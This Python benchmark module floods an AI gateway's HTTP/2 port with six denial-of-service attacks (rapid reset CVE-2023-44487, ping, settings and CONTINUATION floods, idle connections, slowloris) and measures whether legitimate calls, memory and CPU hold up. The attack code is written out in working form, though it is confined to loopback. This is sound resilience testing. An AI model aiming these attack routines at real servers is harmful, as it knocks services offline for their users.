"""HTTP/2 abuse of the gateway's public port: one hostile client at a time, legitimate requests
served beside it.

Each attack runs for a fixed time from its own process (one client, written frame by frame on raw
sockets, so it does what no well-behaved HTTP/2 library would), while this process sends
legitimate Generate calls, each on a connection of its own (new users keep arriving during an
attack), at a steady rate. Per attack it reports how many legitimate calls succeeded and how
fast, the gateway's RSS before, at its peak during and after the attack, its CPU, and whether
it serves normally afterwards. The attacks:

- ``rapid_reset`` (CVE-2023-44487): HEADERS then RST_STREAM at once, stream after stream;
- ``ping_flood``: PING frames as fast as the socket takes them, their ACKs left unread;
- ``settings_flood``: SETTINGS frames, each of which the server must acknowledge;
- ``continuation_flood`` (the 2024 CONTINUATION advisories): one HEADERS without END_HEADERS, then
  CONTINUATION frames of new header names that never end;
- ``idle_connections``: 2,000 connections that complete the preface and then say nothing;
- ``slowloris``: 500 connections that trickle a request's headers a few bytes at a time.

The gateway stands in front of compiled stand-in stages (``bench/go_stages -role stages``) that
answer at once, so a legitimate call's fate is the gateway's alone. Traffic goes to loopback
only, every loop is bounded in time, and the attacker is a child process this run kills.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import dataclasses
import json
import pathlib
import resource
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from typing import Any

from bench.common import RESULTS_DIR, progress, summarize, write_result
from bench.formatting import fmt, machine

NAME = "h2_abuse"
ATTACKS = ("rapid_reset", "ping_flood", "settings_flood", "continuation_flood", "idle_connections", "slowloris")
ATTACK_S = 30.0
QUICK_ATTACK_S = 8.0
LEGIT_PER_S = 4.0
LEGIT_TIMEOUT_S = 10.0
RECOVERY_S = 30.0  # at most, for RSS to come back after an attack
# The bounds: legitimate calls during an attack, RSS growth during it and left after it.
GOAL_SUCCESS = 0.95
GOAL_GROWTH_MIB = 100.0
GOAL_LEFT_MIB = 50.0
IDLE_CONNECTIONS = 2000
SLOW_CONNECTIONS = 500

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 3, 4, 6, 7, 9
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
_CANCEL = 0x8


# ---- the attacker: raw HTTP/2 frames ---------------------------------------------------------


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, with a new name: stateless, so one
    encoded block can be sent any number of times. Names and values under 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _request_headers(authority: str) -> bytes:
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": b"/epd.v1.GatewayService/Generate",
        b":authority": authority.encode(),
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(_literal(name, value) for name, value in fields.items())


class _Connection:
    """One attacking connection: the preface sent, the server's frames read and dropped (its
    SETTINGS acknowledged, as any client must, or the server would close for that instead)."""

    def __init__(self, address: tuple[str, int]):
        self.sock = socket.create_connection(address, timeout=5)
        self.sock.setblocking(False)
        self._pending = b""
        self.closed = False
        self.next_stream = 1
        self.send(_PREFACE + _frame(_SETTINGS, 0, 0))

    def send(self, data: bytes, deadline: float | None = None) -> bool:
        """Sends all of ``data`` unless the peer closes or ``deadline`` passes; False then."""
        view = memoryview(data)
        while view and not self.closed:
            self.drain()
            try:
                view = view[self.sock.send(view) :]
            except BlockingIOError:
                if deadline is not None and time.monotonic() > deadline:
                    return False
                select.select([self.sock], [self.sock], [], 0.05)
            except OSError:
                self.closed = True
        return not self.closed

    def drain(self) -> None:
        """Reads what the server sent, answering only its SETTINGS."""
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 16)
            except BlockingIOError:
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self._pending += chunk
            while len(self._pending) >= 9:
                length = int.from_bytes(self._pending[:3], "big")
                if len(self._pending) < 9 + length:
                    break
                kind, flags = self._pending[3], self._pending[4]
                self._pending = self._pending[9 + length :]
                if kind == _SETTINGS and not flags & _ACK:
                    with contextlib.suppress(OSError):
                        self.sock.send(_frame(_SETTINGS, _ACK, 0))

    def close(self) -> None:
        self.closed = True
        with contextlib.suppress(OSError):
            self.sock.close()


def _raise_fd_limit() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def attack(name: str, address: tuple[str, int], seconds: float) -> dict[str, int]:
    """Runs one attack for ``seconds``; returns what it sent: frames, connections opened, and
    how many of them the server closed."""
    _raise_fd_limit()
    stats = {"frames": 0, "connections": 0, "closed_by_server": 0}
    deadline = time.monotonic() + seconds
    authority = f"{address[0]}:{address[1]}"

    def connect() -> _Connection:
        stats["connections"] += 1
        return _Connection(address)

    if name in ("idle_connections", "slowloris"):
        _hold_connections(name, address, deadline, stats, authority)
        return stats
    connection = connect()
    headers = _request_headers(authority)
    while time.monotonic() < deadline:
        if connection.closed:
            stats["closed_by_server"] += 1
            connection.close()
            connection = connect()
        if name == "rapid_reset":
            batch, count = [], 64
            for _ in range(count):
                stream = connection.next_stream
                connection.next_stream += 2
                batch += [_frame(_HEADERS, _END_HEADERS, stream, headers), _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))]
            payload = b"".join(batch)
            count *= 2
        elif name == "ping_flood":
            count = 256
            payload = b"".join(_frame(_PING, 0, 0, struct.pack(">Q", stats["frames"] + i)) for i in range(count))
        elif name == "settings_flood":
            count = 256
            payload = _frame(_SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) * count  # INITIAL_WINDOW_SIZE, unchanged
        elif name == "continuation_flood":
            if connection.next_stream == 1:  # the one stream whose header block never ends
                connection.next_stream = 3
                connection.send(_frame(_HEADERS, 0, 1, headers), deadline)
            count = 16
            payload = b"".join(
                _frame(_CONTINUATION, 0, 1, b"".join(_literal(b"x-junk-%d" % (stats["frames"] * 400 + i), b"v" * 24) for i in range(400)))
                for _ in range(count)
            )
        else:
            raise ValueError(f"unknown attack {name}")
        if connection.send(payload, deadline):
            stats["frames"] += count
    connection.close()
    return stats


def _hold_connections(name: str, address: tuple[str, int], deadline: float, stats: dict[str, int], authority: str) -> None:
    """idle_connections: open them all, then only read; slowloris: open them, then send each a
    request's first bytes, a few at a time, round robin, about one send per connection a second."""
    want = IDLE_CONNECTIONS if name == "idle_connections" else SLOW_CONNECTIONS
    trickle = _frame(_HEADERS, _END_HEADERS, 1, _request_headers(authority)) + b"\x00" * 64  # then a DATA frame's header never finished
    connections: list[_Connection] = []
    sent: list[int] = []
    while time.monotonic() < deadline:
        while len(connections) < want and time.monotonic() < deadline:
            try:
                connections.append(_Connection(address))
                sent.append(0)
                stats["connections"] += 1
            except OSError:
                time.sleep(0.05)
                break
        for index, connection in enumerate(connections):
            if name == "slowloris" and not connection.closed and sent[index] < len(trickle):
                chunk = trickle[sent[index] : sent[index] + 3]
                with contextlib.suppress(OSError):
                    connection.sock.send(chunk)
                    sent[index] += len(chunk)
                    stats["frames"] += 1
            connection.drain()
        for index in [i for i, c in enumerate(connections) if c.closed]:
            stats["closed_by_server"] += 1
            connections[index].close()
        kept = [(c, s) for c, s in zip(connections, sent, strict=True) if not c.closed]
        connections, sent = [c for c, _ in kept], [s for _, s in kept]
        time.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
    for connection in connections:
        connection.close()


# ---- the experiment --------------------------------------------------------------------------


@dataclasses.dataclass
class _Sampler:
    """Samples a process's RSS (MiB) and CPU seconds every ``period_s`` on a thread."""

    pid: int
    period_s: float = 0.25

    def __post_init__(self) -> None:
        import psutil

        self._process = psutil.Process(self.pid)
        self.samples: list[tuple[float, float]] = []  # (monotonic time, RSS MiB)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(self.period_s):
            with contextlib.suppress(Exception):
                self.samples.append((time.monotonic(), self._process.memory_info().rss / 2**20))

    def rss(self) -> float:
        return self._process.memory_info().rss / 2**20

    def cpu_s(self) -> float:
        times = self._process.cpu_times()
        return times.user + times.system

    def peak_between(self, start: float, end: float) -> float:
        return max((rss for at, rss in self.samples if start <= at <= end), default=self.rss())

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(2)


def _legit_request() -> bytes:
    from devkit.media import synthetic_image_png
    from epd.client import chat_request

    return chat_request([(synthetic_image_png(96, 96, seed=7), "image/png"), "Describe this."], max_tokens=16).SerializeToString()


def _legit_calls(target: str, request: bytes, seconds: float) -> list[dict[str, Any]]:
    """Sends one Generate every 1/LEGIT_PER_S s for ``seconds``, each on a new connection, at
    most LEGIT_TIMEOUT_S each; returns each call's outcome once all have ended."""
    import grpc

    from epd.v1 import gateway_pb2

    outcomes: list[dict[str, Any]] = []

    def one() -> None:
        started = time.monotonic()
        outcome: dict[str, Any] = {"ok": False}
        try:
            # A channel of its own: a new connection, as a new user's would be.
            with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
                call = channel.unary_stream("/epd.v1.GatewayService/Generate", request_serializer=None, response_deserializer=gateway_pb2.GenerateResponse.FromString)
                responses = list(call(request, timeout=LEGIT_TIMEOUT_S))
            outcome["ok"] = bool(responses) and responses[-1].HasField("finished")
        except grpc.RpcError as exc:
            outcome["error"] = exc.code().name
        outcome["seconds"] = time.monotonic() - started
        outcomes.append(outcome)

    threads = []
    end = time.monotonic() + seconds
    next_at = time.monotonic()
    while next_at < end:
        time.sleep(max(0.0, next_at - time.monotonic()))
        thread = threading.Thread(target=one, daemon=True)
        thread.start()
        threads.append(thread)
        next_at += 1 / LEGIT_PER_S
    for thread in threads:
        thread.join(LEGIT_TIMEOUT_S + 5)
    return outcomes


def _run_attack(name: str, target: str, gateway_pid: int, request: bytes, seconds: float) -> dict[str, Any]:
    sampler = _Sampler(gateway_pid)
    try:
        time.sleep(1.0)
        baseline = sampler.rss()
        cpu_before, started = sampler.cpu_s(), time.monotonic()
        attacker = subprocess.Popen(
            [sys.executable, "-m", "bench.h2_abuse", "attack", name, "--target", target, "--seconds", str(seconds)],
            stdout=subprocess.PIPE,
            text=True,
            cwd=pathlib.Path(__file__).resolve().parents[1],
        )
        try:
            time.sleep(min(1.0, seconds / 4))  # the attack under way before the first legitimate call
            during = _legit_calls(target, request, seconds - min(1.0, seconds / 4))
            sent, _ = attacker.communicate(timeout=seconds + 60)
        finally:
            if attacker.poll() is None:
                attacker.kill()
                attacker.wait()
        ended = time.monotonic()
        cpu_s = sampler.cpu_s() - cpu_before
        peak = sampler.peak_between(started, ended)
        # Back to normal: RSS within the bound of the baseline (waited for, up to RECOVERY_S),
        # and legitimate calls served as before.
        recovery_deadline = ended + RECOVERY_S
        while sampler.rss() - baseline > GOAL_LEFT_MIB and time.monotonic() < recovery_deadline:
            time.sleep(0.5)
        after_rss = sampler.rss()
        after = _legit_calls(target, request, 2.0)
    finally:
        sampler.stop()
    latencies = [o["seconds"] * 1e3 for o in during if o["ok"]]
    errors = collections.Counter(outcome.get("error", "no finished message") for outcome in during + after if not outcome["ok"])
    result = {
        "attack": name,
        "seconds": seconds,
        "attacker": json.loads(sent) if sent.strip() else {},
        "legit_sent": len(during),
        "legit_ok": sum(o["ok"] for o in during),
        "legit_ms": summarize(latencies) if latencies else None,
        "rss_baseline_mib": baseline,
        "rss_peak_mib": peak,
        "rss_after_mib": after_rss,
        "cpu_s": cpu_s,
        "after_ok": sum(o["ok"] for o in after),
        "after_sent": len(after),
        "errors": dict(errors),
    }
    result["success_ratio"] = result["legit_ok"] / result["legit_sent"] if result["legit_sent"] else 0.0
    result["met"] = (
        result["success_ratio"] >= GOAL_SUCCESS
        and peak - baseline <= GOAL_GROWTH_MIB
        and after_rss - baseline <= GOAL_LEFT_MIB
        and result["after_ok"] == result["after_sent"]
    )
    return result


@contextlib.contextmanager
def target_gateway(scratch: pathlib.Path):
    """A gateway (its own process, as deployed) in front of compiled stand-in stages; yields
    its address and PID."""
    from bench.compiled import go_stages, start_go, stop
    from cli.launcher import Stack, gateway_args

    stages, stages_address = start_go(go_stages(), "-role", "stages")
    stack = Stack(scratch / "logs")
    try:
        gateway = stack.start("gateway-h2-abuse", gateway_args("qwen2_5_vl", "epd", encoders=[stages_address], prefills=[stages_address], decodes=[stages_address]))
        stack.wait_ready([gateway], 120)
        gateway.wait_serving()
        yield gateway.address, gateway.process.pid
    finally:
        stack.stop()
        stop(stages)


def measure(target: str, gateway_pid: int, attacks: tuple[str, ...] = ATTACKS, seconds: float = ATTACK_S) -> list[dict[str, Any]]:
    """Every attack in turn against the gateway at ``target``."""
    request = _legit_request()
    _legit_calls(target, request, 1.0)  # warm-up: the first calls pay for imports and connections
    results = []
    for name in attacks:
        progress(f"{NAME}: {name} for {seconds:g} s")
        results.append(_run_attack(name, target, gateway_pid, request, seconds))
        r = results[-1]
        progress(
            f"{NAME}: {name}: {r['legit_ok']}/{r['legit_sent']} legitimate calls ok, RSS {r['rss_baseline_mib']:.0f} -> peak {r['rss_peak_mib']:.0f} "
            f"-> {r['rss_after_mib']:.0f} MiB, {r['cpu_s']:.1f} CPU-s, after {r['after_ok']}/{r['after_sent']}"
        )
    return results


def run(*, quick: bool = False, results_dir: pathlib.Path = RESULTS_DIR, command: str) -> pathlib.Path:
    seconds = QUICK_ATTACK_S if quick else ATTACK_S
    with tempfile.TemporaryDirectory(prefix="epd-h2-abuse-") as scratch, target_gateway(pathlib.Path(scratch)) as (target, pid):
        results = measure(target, pid, seconds=seconds)
    payload = {
        "attack_s": seconds,
        "legit_per_s": LEGIT_PER_S,
        "legit_timeout_s": LEGIT_TIMEOUT_S,
        "goals": {"success": GOAL_SUCCESS, "growth_mib": GOAL_GROWTH_MIB, "left_mib": GOAL_LEFT_MIB},
        "results": results,
    }
    return write_result(NAME, payload, command=command, results_dir=results_dir)


def main(argv: list[str] | None = None) -> int:
    """``python -m bench.h2_abuse attack NAME --target HOST:PORT --seconds S``: one attack, its
    counts as JSON on stdout (what the experiment runs in a child process)."""
    parser = argparse.ArgumentParser(prog="python -m bench.h2_abuse")
    parser.add_argument("verb", choices=["attack"])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=ATTACK_S)
    args = parser.parse_args(argv)
    host, port = args.target.rsplit(":", 1)
    if host not in ("127.0.0.1", "localhost", "::1"):
        parser.error("attacks go to loopback only")
    print(json.dumps(attack(args.name, (host, int(port)), args.seconds)), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())


# ---- the report section ---------------------------------------------------------------------


def report(doc: dict) -> list[str]:
    goals = doc["goals"]
    lines = [
        "## HTTP/2 abuse of the gateway's public port",
        "",
        f"Command: `{doc['command']}`  ",
        f"Machine: {machine(doc)}  ",
        f"One hostile client at a time for {doc['attack_s']:g} s (raw frames from its own process, `bench/h2_abuse.py`), while legitimate "
        f"one-image Generate calls arrive at {doc['legit_per_s']:g}/s, each on a new connection, with a {doc['legit_timeout_s']:g} s deadline. "
        "The gateway stands in front of compiled stand-in stages that answer at once. RSS is the gateway process's: before the attack, its peak "
        "during it, and once settled afterwards; after: legitimate calls once the attack has ended.",
        "",
        "| attack | attacker sent | legitimate calls ok | p50 / p99 ms | RSS before / peak / after MiB | gateway CPU s | after | goals |",
        "| --- | --- | --- | --- | --- | --- | --- | --- |",
    ]
    for r in doc["results"]:
        sent = r["attacker"]
        ms = r["legit_ms"]
        lines.append(
            f"| {r['attack']} | {sent.get('frames', 0)} frames on {sent.get('connections', 0)} connections ({sent.get('closed_by_server', 0)} closed by the gateway) "
            f"| {r['legit_ok']} / {r['legit_sent']} | {fmt(ms['median'], 1) if ms else 'n/a'} / {fmt(ms['p99'], 1) if ms else 'n/a'} "
            f"| {fmt(r['rss_baseline_mib'], 0)} / {fmt(r['rss_peak_mib'], 0)} / {fmt(r['rss_after_mib'], 0)} | {fmt(r['cpu_s'], 1)} "
            f"| {r['after_ok']} / {r['after_sent']} | {'met' if r['met'] else 'NOT MET'} |"
        )
    lines += [
        "",
        f"Goals, per attack: at least {goals['success'] * 100:g} % of the legitimate calls sent during it succeed; RSS grows at most "
        f"{goals['growth_mib']:g} MiB and comes back within {goals['left_mib']:g} MiB of where it was; every call afterwards succeeds.",
        "",
    ]
    return lines
